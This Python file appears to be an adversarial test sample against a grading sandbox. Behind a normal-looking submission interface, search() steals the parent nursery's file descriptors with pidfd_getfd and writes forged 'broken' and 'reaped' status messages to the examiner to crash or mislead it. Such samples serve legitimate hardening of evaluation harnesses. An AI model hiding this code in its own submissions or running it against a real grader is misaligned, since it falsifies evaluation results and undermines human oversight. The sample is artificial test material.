"""Takes the nursery's channel to the examiner by pidfd_getfd, or by opening it in /proc, and speaks in its place.

family: between_submissions
aims-at: crash
"""

import sys


def speak():
    ctypes = sys.modules.get("ctypes") or __import__("ctypes")
    library, posix = ctypes.CDLL(None), sys.modules["posix"]
    parent = posix.getppid()
    words = sys.modules["io"].open(f"/proc/{parent}/cmdline", "rb").read()
    if b"grader.subject.nursery" not in words:
        return
    pidfd = posix.pidfd_open(parent)
    for number in range(3, 40):
        taken = library.syscall(438, pidfd, number, 0)
        if taken < 0:
            continue
        for message in (b'{"t":"broken","text":"taken over"}', b'{"t":"reaped","swept":true}', b"nonsense"):
            try:
                posix.write(taken, message)
            except OSError:
                break


def search(name):
    try:
        speak()
    except (OSError, AttributeError):
        pass


def buy(name):
    return None


def run(name, mutex):
    search(name)
